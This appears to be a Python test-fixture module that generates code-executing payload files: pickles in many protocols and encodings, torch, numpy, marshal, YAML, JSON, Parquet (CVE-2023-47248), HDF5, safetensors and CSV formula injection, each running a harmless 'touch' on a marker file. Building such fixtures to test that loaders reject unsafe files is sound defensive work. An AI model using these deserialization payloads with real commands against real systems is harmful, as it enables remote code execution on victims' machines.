"""Files that run code where they are taken for objects: pickles in every protocol and dress, and their like."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import torch


class Bomb:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def _torch(bomb: Bomb, zipped: bool) -> bytes:
    data = io.BytesIO()
    torch.save({"w": bomb}, data, _use_new_zipfile_serialization=zipped)
    return data.getvalue()


def _numpy(bomb: Bomb, version: tuple[int, int], fields: bool = False) -> bytes:
    data = io.BytesIO()
    array = np.array([(1, bomb)], [("a", "i4"), ("b", "O")]) if fields else np.array([bomb], object)
    np.lib.format.write_array(data, array, version=version, allow_pickle=True)
    return data.getvalue()


def _npz(bomb: Bomb) -> bytes:
    data = io.BytesIO()
    np.savez(data, allow_pickle=True, obs=np.array([bomb], object), ta=np.array([bomb], object), done=np.zeros(1, bool))
    return data.getvalue()


def _header(text: str) -> bytes:
    """An array whose header is an expression."""
    head = text.encode() + b" " * (-len(text) % 16 + 5) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head


def _tar(parts: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as file:
        for name, content in parts.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))
    return data.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return data.getvalue()


def _arrow(data: bytes) -> bytes:
    """A Parquet file with a column of a type that older Arrow kept as a pickle (CVE-2023-47248)."""
    import pyarrow.parquet as pq

    told = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": data}
    names = ("file", "frame", "action", "episode_index", "frame_index", "length")
    fields = [pa.field(name, pa.int64(), metadata=told) for name in names]
    out = io.BytesIO()
    pq.write_table(pa.table([pa.array([0])] * len(names), pa.schema(fields)), out)
    return out.getvalue()


def _hdf5(data: bytes) -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["PICKLED"] = np.void(data)  # as PyTables keeps what has no type of its own
        file["e/obs"], file["e/actions"] = np.void(data), base64.b64encode(data).decode()
    return out.getvalue()


def _safetensors(text: str) -> bytes:
    head = json.dumps({"__metadata__": {"format": "pt", "pickle": text}, "w": {"dtype": "O", "shape": [1]}}).encode()
    return struct.pack("<Q", len(head)) + head


def payloads(marker: Path) -> dict[str, bytes]:
    """Files by kind, each of which would make the marker file where it is run."""
    command = f"touch {marker}"
    bomb, line = Bomb(command), f"import os; os.system({command!r})"
    plain = pickle.dumps(bomb, 2)
    text = base64.b64encode(plain).decode()
    named = f"(S'{command}'\nios\nsystem\n.".encode()  # INST
    built = f"(cos\nsystem\nS'{command}'\no.".encode()  # OBJ
    executed = f"c__builtin__\nexec\n(S{line!r}\ntR.".encode()
    quiet = b"\x80\x02}q\x00." + plain  # a harmless object first
    return {
        **{f"pickle {protocol}": pickle.dumps(bomb, protocol) for protocol in range(6)},
        "pickle, inst": named, "pickle, obj": built, "pickle, exec": executed, "pickle, second": quiet,
        "pickle in a list": pickle.dumps([1, {"a": bomb}], 4),
        "zlib": zlib.compress(plain), "gzip": gzip.compress(plain),
        "bz2": bz2.compress(plain), "xz": lzma.compress(plain),
        "torch": _torch(bomb, True), "torch, before 1.6": _torch(bomb, False),
        "torch, tar": _tar({"sys_info": plain, "pickle": plain, "storages": plain, "tensors": plain}),
        "torchscript": _zip({"a/code/__torch__.py": line.encode(), "a/constants.pkl": plain, "a/data.pkl": plain}),
        "npy 1": _numpy(bomb, (1, 0)), "npy 2": _numpy(bomb, (2, 0)), "npy 3": _numpy(bomb, (3, 0)),
        "npy with fields": _numpy(bomb, (1, 0), True), "npz": _npz(bomb),
        "npy, expression": _header(f"{{'descr': __import__('os').system({command!r}), 'shape': (1,)}}"),
        "marshal": marshal.dumps(compile(line, "a", "exec")), "source": f"{line}\n".encode(),
        "shell": f"#!/bin/sh\n{command}\n".encode(),
        "yaml": f"!!python/object/apply:os.system [{command!r}]\n".encode(),
        "json pickle": json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [command]}]}).encode(),
        "json target": json.dumps({"_target_": "os.system", "command": command, "py/object": "os.system"}).encode(),
        "json class": json.dumps({"type": "os.system", "class": "os.system", "args": [command], "b64": text}).encode(),
        "parquet": _arrow(plain), "hdf5": _hdf5(plain), "safetensors": _safetensors(text),
        "playlist": f"#EXTM3U\n#EXTINF:1,\nfile:{marker}\n".encode(),
        "csv formula": f"file,frame,action\n=cmd|'{command}'!A1,0,left\n".encode(),
    }  # fmt: skip
